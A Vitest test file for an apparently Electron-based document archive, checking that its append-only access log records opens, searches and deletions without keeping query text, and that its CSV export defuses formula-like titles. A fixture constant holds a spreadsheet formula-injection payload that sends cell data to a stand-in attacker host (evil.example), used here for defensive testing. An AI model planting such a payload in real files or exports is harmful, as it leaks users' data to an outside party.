// The access log: who (the OS user) opened, searched, exported, deleted… which document, and
// when, through the contract handlers and the CLI over one real archive. Never document text
// (a search logs its hit count, not the query; an edit its field key, not the value), no way
// to change or delete an entry through the API or SQL, a deleted document's entries keep
// its id under a neutral title, and the CSV export neutralizes a hostile title.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CALL_NAMES } from '../../shared/contract';
import type { AccessEntry } from '../../shared/privacy';
import { createDispatcher, type Dispatch } from '../../electron/main/api/dispatcher';
import { callOk } from '../helpers/call-ok';
import { createHandlers } from '../../electron/main/api/handlers';
import { parseCsv } from '../../electron/main/services/csv';
import { textPdf } from '../fixtures/pdfs';
import { json, runCli } from '../helpers/run-cli';
import { openTempArchive, removeDir, tempDir, type TempArchive } from '../helpers/temp-archive';

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
const QUERY = 'tachycardia';

let archive: TempArchive;
let dispatch: Dispatch;
const scratch = tempDir('abstractor-access-');
let hostile: number;
let other: number;

const call = <T>(name: string, payload: unknown): Promise<T> => callOk<T>(dispatch, name, payload);

beforeAll(async () => {
  archive = await openTempArchive({ keep: true });
  dispatch = createDispatcher(createHandlers(archive.services, { version: 'test', transport: 'ipc' }), { checkResponses: true });
  fs.writeFileSync(path.join(scratch, 'a.pdf'), textPdf({ pages: [['Resting tachycardia noted on admission.']], title: HOSTILE_TITLE }));
  fs.writeFileSync(path.join(scratch, 'b.pdf'), textPdf({ pages: [['A quiet lease of a shed.']], title: 'Shed lease' }));
  const outcomes = await archive.services.importer.importMany([
    { key: 'a', name: 'a.pdf', path: path.join(scratch, 'a.pdf') },
    { key: 'b', name: 'b.pdf', path: path.join(scratch, 'b.pdf') },
  ]);
  [hostile, other] = outcomes.map((o) => (o.kind === 'imported' ? o.document.id : NaN)) as [number, number];
});

afterAll(async () => {
  await archive?.dispose();
  removeDir(archive?.dir ?? '');
  removeDir(scratch);
});

describe('access log', () => {
  it('records opening, searching and deleting with the OS user, never the query', async () => {
    await call('documents:get', { id: hostile });
    await call('documents:get', { id: other });
    const { hits } = await call<{ hits: unknown[] }>('search:query', { query: QUERY });
    expect(hits).toHaveLength(1);
    const { entries } = await call<{ entries: AccessEntry[] }>('accessLog:list', {});
    expect(entries.map((e) => [e.action, e.documentId])).toEqual([
      ['searched', null],
      ['opened', other],
      ['opened', hostile],
    ]);
    for (const e of entries) {
      expect(e.user).toBe(os.userInfo().username);
      expect(e.via).toBe('app');
      expect(Date.now() - Date.parse(e.at)).toBeLessThan(60_000);
    }
    expect(entries[0]!.detail).toEqual({ hits: 1 });
    expect(entries[2]!.title).toBe(HOSTILE_TITLE);
    // The query is text about a document: it is not kept anywhere in the log.
    const raw = archive.services.db.prepare('SELECT * FROM access_log').all();
    expect(JSON.stringify(raw)).not.toContain(QUERY);

    const filtered = await call<{ entries: AccessEntry[]; total: number }>('accessLog:list', { documentId: other });
    expect(filtered.total).toBe(1);
    const future = await call<{ total: number }>('accessLog:list', { since: '2999-01-01' });
    expect(future.total).toBe(0);
    const bad = await dispatch('accessLog:list', { since: 'yesterday-ish' });
    expect(bad.ok ? null : bad.error.code).toBe('invalid_request');
  });

  it('cannot be changed through the API or by SQL', () => {
    // The contract has no call that writes to the log.
    expect(CALL_NAMES.filter((n) => n.startsWith('accessLog:'))).toEqual(['accessLog:list', 'accessLog:csv']);
    const { db } = archive.services;
    expect(() => db.prepare("UPDATE access_log SET os_user = 'mallory'").run()).toThrow(/append-only/);
    expect(() => db.prepare("UPDATE access_log SET action = 'printed'").run()).toThrow(/append-only/);
    expect(() => db.prepare('DELETE FROM access_log').run()).toThrow(/append-only/);
  });

  it('keeps a deleted document’s entries, with its id and "deleted document #id" as the title', async () => {
    await call('documents:delete', { id: other });
    const { entries } = await call<{ entries: AccessEntry[] }>('accessLog:list', { documentId: other });
    expect(entries.map((e) => e.action)).toEqual(['deleted', 'opened']);
    expect(entries.map((e) => e.title)).toEqual([`deleted document #${other}`, `deleted document #${other}`]);
    expect(JSON.stringify(archive.services.db.prepare('SELECT * FROM access_log').all())).not.toContain('Shed lease');
  });

  it('exports CSV with a formula-like title made inert', async () => {
    const { csv, rows } = await call<{ csv: string; rows: number }>('accessLog:csv', { documentId: hostile });
    expect(rows).toBe(1);
    const [header, row] = parseCsv(csv);
    expect(header).toEqual(['id', 'at', 'user', 'via', 'action', 'document_id', 'title', 'detail']);
    expect(row![6]).toBe(`'${HOSTILE_TITLE}`);
  });

  it('is listed, filtered and exported by the CLI, which logs what it shows and searches', async () => {
    await archive.dispose(); // the CLI opens the archive itself (kept: the folder stays)
    const cli = (args: string[]) => runCli([...args, '--archive', archive.dir]);
    expect((await cli(['show', String(hostile)])).code).toBe(0);
    expect((await cli(['search', QUERY])).code).toBe(0);
    const listed = json<{ total: number; entries: AccessEntry[] }>(await cli(['access-log', '--json', '--document', String(hostile)]));
    expect(listed.entries.map((e) => [e.action, e.via])).toEqual([
      ['opened', 'cli'],
      ['opened', 'app'],
    ]);
    const since = json<{ entries: AccessEntry[] }>(await cli(['access-log', '--json', '--since', new Date(Date.now() - 3_600_000).toISOString()]));
    expect(since.entries.some((e) => e.action === 'searched' && e.via === 'cli')).toBe(true);
    const file = path.join(scratch, 'log.csv');
    const exported = await cli(['access-log', '--csv', file]);
    expect(exported.code, exported.stderr).toBe(0);
    const rows = parseCsv(fs.readFileSync(file, 'utf8'));
    expect(rows.length).toBeGreaterThan(5);
    expect(rows.some((r) => r[6] === `'${HOSTILE_TITLE}`)).toBe(true);
    const usage = await cli(['access-log', '--document', 'x']);
    expect(usage.code).toBe(2);
  }, 60_000);
});
